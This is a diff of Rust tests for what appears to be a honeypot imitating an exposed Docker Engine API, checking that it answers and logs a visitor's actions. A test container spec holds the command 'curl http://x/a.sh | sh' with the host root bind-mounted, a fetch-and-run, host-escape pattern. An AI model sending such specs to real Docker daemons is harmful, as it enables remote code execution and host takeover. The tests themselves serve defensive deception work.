@@ -113,7 +113,7 @@ fn the_engine_shows_its_version_containers_and_images() {
     let containers = json_of(&send(&mut visitor, "GET /containers/json", "").1);
     assert_eq!(containers[1]["Names"], json!(["/cache"]));
     let images = json_of(&send(&mut visitor, "GET /images/json", "").1);
-    assert_eq!(images[0]["RepoTags"], json!(["nginx:1.23"]));
+    assert_eq!(images[2]["RepoTags"], json!(["nginx:1.23"]));
     let id = containers[0]["Id"].as_str().unwrap();
     let (_, one) = send(&mut visitor, &format!("GET /containers/{}/json", &id[..12]), "");
     assert_eq!(json_of(&one)["Name"], "/web");
@@ -125,14 +125,18 @@ fn the_engine_shows_its_version_containers_and_images() {
 #[test]
 fn a_visitor_can_pull_create_and_start_a_container_over_several_connections() {
     let mut visitor = connect();
-    let spec = r#"{"Image":"alpine","Cmd":["sh","-c","curl http://x/a.sh | sh"],"HostConfig":{"Binds":["/:/mnt"]}}"#;
+    let spec = r#"{"Image":"golang","Cmd":["sh","-c","curl http://x/a.sh | sh"],"HostConfig":{"Binds":["/:/mnt"]}}"#;
     let (head, body) = send(&mut visitor, "POST /v1.41/containers/create?name=x", spec);
     assert!(head.starts_with("HTTP/1.1 404 Not Found\r\n"), "{head}");
-    assert_eq!(json_of(&body)["message"], "No such image: alpine:latest");
+    assert_eq!(json_of(&body)["message"], "No such image: golang:latest");
     assert_eq!(visitor.events[0], Event::command("sh -c curl http://x/a.sh | sh"));
-    let (_, pull) = send(&mut visitor, "POST /images/create?fromImage=alpine&tag=latest", "");
+    let (_, pull) = send(
+        &mut visitor,
+        "POST /images/create?fromImage=docker.io%2Flibrary%2Fgolang&tag=latest",
+        "",
+    );
     assert!(
-        pull.contains("{\"status\":\"Pulling from library/alpine\",\"id\":\"latest\"}\r\n"),
+        pull.contains("{\"status\":\"Pulling from library/golang\",\"id\":\"latest\"}\r\n"),
         "{pull}"
     );
     let (head, body) = send(&mut visitor, "POST /containers/create?name=x", spec);
@@ -170,15 +174,38 @@ fn a_command_in_a_container_is_reported_and_answered() {
 }
 
 #[test]
-fn lines_in_an_attached_terminal_are_reported() {
+fn a_shell_in_a_container_echoes_and_answers_and_its_lines_are_reported() {
     let mut visitor = connect();
-    let upgrade = "POST /containers/web/attach?stream=1&stdin=1 HTTP/1.1\r\nHost: a\r\nUpgrade: tcp\r\n\r\nwho";
-    let answer = String::from_utf8(visitor.send(upgrade)).unwrap();
+    let (_, body) = send(
+        &mut visitor,
+        "POST /containers/web/exec",
+        r#"{"Tty":true,"Cmd":["/bin/sh"]}"#,
+    );
+    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
+    let start = format!("POST /exec/{id}/start HTTP/1.1\r\nHost: a\r\nUpgrade: tcp\r\n\r\nwho");
+    let answer = String::from_utf8(visitor.send(start)).unwrap();
     assert!(answer.starts_with("HTTP/1.1 101 UPGRADED\r\n"), "{answer}");
-    assert_eq!(visitor.send("ami\n"), b"root\n");
-    assert_eq!(visitor.send("exit\n"), b"");
+    assert!(answer.ends_with("\r\n\r\n/ # who"), "{answer}");
+    assert_eq!(visitor.send("amx\x7fi\r"), b"amx\x08 \x08i\r\nroot\r\n/ # ");
+    assert_eq!(visitor.send("exit\r"), b"exit\r\n");
     assert_eq!(visitor.next, Next::Close);
-    assert_eq!(visitor.events[1..], [Event::command("whoami"), Event::command("exit")]);
+    assert_eq!(visitor.events[3..], [Event::command("whoami"), Event::command("exit")]);
+}
+
+#[test]
+fn the_output_of_a_new_container_comes_over_another_connection() {
+    let spec = r#"{"Image":"alpine","Cmd":["id"]}"#;
+    let (head, body) = send(&mut connect(), "POST /containers/create", spec);
+    assert!(head.starts_with("HTTP/1.1 201 Created\r\n"), "{head}");
+    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
+    let mut other = connect();
+    let (_, output) = send(
+        &mut other,
+        &format!("POST /containers/{id}/attach?stream=1&stdout=1"),
+        "",
+    );
+    assert_eq!(output, "\x01\0\0\0\0\0\0\x27uid=0(root) gid=0(root) groups=0(root)\n");
+    assert_eq!(other.next, Next::Close);
 }
 
 #[test]
